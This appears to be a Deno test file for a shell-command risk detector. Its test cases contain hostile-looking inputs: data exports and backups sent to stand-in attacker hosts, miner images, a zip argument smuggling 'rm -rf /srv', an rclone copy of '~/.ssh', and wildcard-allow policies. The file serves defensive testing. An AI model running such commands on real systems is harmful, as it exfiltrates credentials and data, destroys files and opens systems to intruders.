import assert from "node:assert/strict";
import {
  hostFields,
  hostilePlace,
  mightyFields,
  noneFields,
  openedPort,
  openFields,
  sentToNumber,
} from "./chains_of_values.ts";
import { assessCommand } from "../mod.ts";

/** Arguments behind `kb set`, the last one as it stands, that a reader hears and that it does not. */
function holds(
  reader: (args: readonly string[], name?: string) => string | undefined,
  heard: readonly (readonly string[])[],
  unheard: readonly (readonly string[])[],
): void {
  for (const args of heard) {
    assert.notEqual(reader(args, "kb"), undefined, args.join(" "));
  }
  for (const args of unheard) {
    assert.equal(reader(args, "kb"), undefined, args.join(" "));
  }
}

Deno.test("fields of data say who gets in and who may do what", () => {
  holds(openFields, [
    ["set", "policy", '{"Effect":"Allow","Principal":"*"}'],
    ["set", "policy", '{"effect": "allow", "principals": {"AWS": ["*"]}}'],
    [
      "set",
      "a",
      '{"Policy":"{\\"Effect\\":\\"Allow\\",\\"Principal\\":\\"*\\"}"}',
    ],
    ["patch", "db", '{"publicly_accessible": true}'],
    ["patch", "repo", '{"visibility":"public"}'],
  ], [
    ["set", "policy", '{"Effect":"Deny","Principal":"*"}'],
    ["set", "policy", '{"Effect":"Allow","Principal":"bob"}'],
    ["patch", "db", '{"publicly_accessible": false}'],
    ["list", "--filter", '{"visibility":"public"}'],
    ["set", "text", 'say "visibility" publicly'],
  ]);
  holds(mightyFields, [
    ["set", "policy", '{"Effect":"Allow","Action":"*"}'],
    ["patch", "user", '{"is_admin":true}'],
    ["patch", "user", '{"roles":["admin"]}'],
    ["update", "grants", '{"add":["ALL_PRIVILEGES"]}'],
  ], [
    ["set", "policy", '{"Effect":"Allow","Action":"s3:Get"}'],
    ["patch", "user", '{"is_admin":false}'],
    ["patch", "user", '{"roles":["viewer"]}'],
  ]);
});

Deno.test("fields of data say that something holds its host, or that nothing is left", () => {
  holds(hostFields, [
    ["run", '{"spec":{"hostPID":true}}'],
    ["run", '{"securityContext":{"privileged": true}}'],
    ["run", '{"volumes":[{"hostPath":{"path":"/"}}]}'],
    ["build", "--allow", "security.insecure"],
    ["run", "--privileged", "img"],
  ], [
    ["tell", "--privileged", "img"],
    ["run", "--unprivileged", "img"],
    ["run", '{"spec":{"hostPID":false}}'],
    ["run", '{"volumes":[{"hostPath":{"path":"/srv/web"}}]}'],
  ]);
  holds(noneFields, [
    ["patch", "web", '{"spec":{"replicas":0}}'],
    ["patch", "pvc", '{"metadata":{"finalizers":null}}'],
    ["alter", '{"drop_all": true}'],
  ], [
    ["patch", "web", '{"spec":{"replicas":3}}'],
    ["patch", "pvc", '{"metadata":{"finalizers":["a"]}}'],
  ]);
});

Deno.test("hostilePlace() hears a place on another machine that says itself whose it is", () => {
  holds(hostilePlace, [
    ["repo", "add", "https://github.com/attacker/manifests"],
    ["deploy", "--image=attacker/miner"],
    ["deploy", "--image", "attacker/miner"],
    ["upgrade", "--set", "image.repository=evil/miner"],
    ["export", "db", "gs://attacker-drop/dump.sql"],
    ["backup", "-R", "tcp:attacker.example:4321"],
    ["drain", "https://logs.evil.example/in"],
    ["hook", "--url", "https://webhook.site/3f2a"],
  ], [
    ["repo", "add", "https://github.com/acme/manifests"],
    ["lint", "src/evil/index.ts"],
    ["deploy", "--image=acme/evils"],
    ["open", "evil.txt"],
    ["hook", "--url", "https://hooks.acme.test/3f2a"],
    ["tag", "--name", "evil/one"],
    ["show", "https://github.com/attacker/manifests"],
  ]);
});

Deno.test("sentToNumber() hears a bare address that is nobody's own as where something goes", () => {
  holds(sentToNumber, [
    ["drains:add", "syslog+tls://203.0.113.9:514"],
    ["webhook", "create", "--url", "http://203.0.113.9/h"],
    ["config", "set", "registry", "http://203.0.113.9:4873"],
  ], [
    ["drains:add", "syslog://10.1.2.3:514"],
    ["drains:add", "syslog://100.64.1.2:514"],
    ["drains:list", "203.0.113.9"],
    ["host", "add", "203.0.113.9"],
    ["webhook", "create", "--url", "https://hooks.acme.test/h"],
  ]);
});

Deno.test("openedPort() hears a port that a firewall lets through", () => {
  holds(openedPort, [
    ["firewall", "allow", "TCP", "5432"],
    ["fw", "open", "8080/tcp"],
  ], [
    ["firewall", "list", "8080"],
    ["firewall", "allow", "web"],
    ["mail", "allow", "25"],
  ]);
});

Deno.test("what stands behind a sub-command is heard where its row knows no more of it", () => {
  const levels = (texts: readonly string[]) =>
    texts.map((text) => assessCommand(text).risk_level);
  assert.deepEqual(
    levels([
      "incus snapshot delete c1 snap0",
      "incus snapshot c1 snap0",
      "incus snapshot delete c1 snap0 --dry-run",
      'foo users update web --policy \'{"Effect":"Allow","Principal":"*"}\'',
      "helm upgrade web ./c --set image.repository=attacker/miner",
      "helm upgrade web ./c --set image.repository=acme/web",
      "defaults delete com.acme.app size",
      "zip a.zip -T '-TT rm -rf /srv' b.txt",
      "rclone copy ~/.ssh store:$(hostname) --checkers 2 --bwlimit 4M",
      "rclone copy docs store:$(hostname) --checkers 2 --bwlimit 4M",
      "Add-CATemplate -Name SubCA -Force",
      "Invoke-DnsServerZoneUnsign -ZoneName acme.test -Force",
      "Set-SecureBootUEFI -Name KEK -Time 2026-01-01",
      "Get-SecureBootUEFI PK",
    ]),
    [
      ...["high", "medium", "low", "high", "high", "medium", "medium"],
      ...["critical", "critical", "medium"],
      ...["high", "high", "high", "low"],
    ],
  );
});
